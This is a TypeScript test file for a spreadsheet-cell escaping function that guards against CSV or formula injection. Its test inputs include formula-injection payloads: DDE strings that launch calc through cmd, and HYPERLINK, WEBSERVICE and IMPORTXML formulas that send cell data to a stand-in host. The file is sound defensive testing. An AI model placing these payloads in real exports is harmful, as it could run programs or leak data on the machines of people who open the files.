import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { plainCell, safeCell } from './safe-cell.ts'

for (const cell of [
  '=1+1',
  '+1',
  '-1',
  '@SUM(1)',
  '@SUM (1+1)',
  "@A1+cmd|' /C calc'!A0",
  '@x*2',
  "- 2+3+cmd|' /C calc'!A0",
  '+ 1+1',
  '\t=1',
  '\n=1',
  ' =1',
  '＝1+1',
]) {
  test(`${JSON.stringify(cell)} is escaped, so it is not a formula`, () =>
    assert.equal(safeCell(cell), `'${cell}`))
}

for (const cell of ['biasa', '@dr.ayu menjawab', '@dr.ayu: jawab', '@toko', '- satu', '10% diskon', '']) {
  test(`${JSON.stringify(cell)} is left unchanged`, () => assert.equal(safeCell(cell), cell))
}

for (const [cell, safe] of [
  ["Promo;=cmd|' /C calc'!A0;x", "Promo;'=cmd|' /C calc'!A0;x"],
  ['Promo, =HYPERLINK("https://x.id?"&A1)', 'Promo, \'=HYPERLINK("https://x.id?"&A1)'],
  ["satu\n+2+cmd|' /C calc'!A0", "satu\n'+2+cmd|' /C calc'!A0"],
  ['satu\r\n-WEBSERVICE ("https://x.id")', 'satu\r\n\'-WEBSERVICE ("https://x.id")'],
  ['a;@importxml("https://x.id";"//a")', 'a;\'@importxml("https://x.id";"//a")'],
  ['a;＝SUM(A1)', "a;'＝SUM(A1)"],
] as const) {
  test(`${JSON.stringify(cell)} is not a formula even if the file is split at another delimiter`, () =>
    assert.equal(safeCell(cell), safe))
}

for (const cell of [
  'Beli 1;+1 gratis, -10% (khusus hari ini)',
  'satu\n- dua (baru)\n- tiga | empat',
  'jawab\n@dr.ayu (dokter)',
  'hasilnya\n=====\nbagus',
  'a, =1+1',
]) {
  test(`${JSON.stringify(cell)} is a caption and is left unchanged`, () => assert.equal(safeCell(cell), cell))
}

test('a long caption takes time linear in its length', () => {
  const began = performance.now()
  for (const part of [',=', ';+|', '\n-', ',=a', '=|', ', =|!']) safeCell(part.repeat(20_000 / part.length))
  assert.ok(performance.now() - began < 1000)
})

const comesBack = [
  '=1+1', "'=1+1", "''=1+1", "'halo", "it's =1", "a\n=cmd|' /C calc'!A0", "a\n'=cmd|' /C calc'!A0", '+62 812', '- satu', '@lestari hai',
  "x;=HYPERLINK(\"http://a\")", "x;'=HYPERLINK(\"http://a\")", '\t=1', '＝1+1', "' =1",
] // oxfmt-ignore
for (const text of comesBack) {
  test(`${JSON.stringify(text)} comes back from a cell unchanged`, () => {
    assert.equal(plainCell(safeCell(text)), text)
  })
}

test('any text comes back from a cell unchanged', () => {
  const sign = fc.constantFrom(..."=+-@;,'\n\r\t|!(", 'HYPERLINK(', "=cmd|'x'!A0", ' ', 'a', 'kata')
  fc.assert(
    fc.property(fc.array(sign), (parts) => {
      const text = parts.join('')
      assert.equal(plainCell(safeCell(text)), text)
    }),
    { numRuns: 3000 },
  )
})
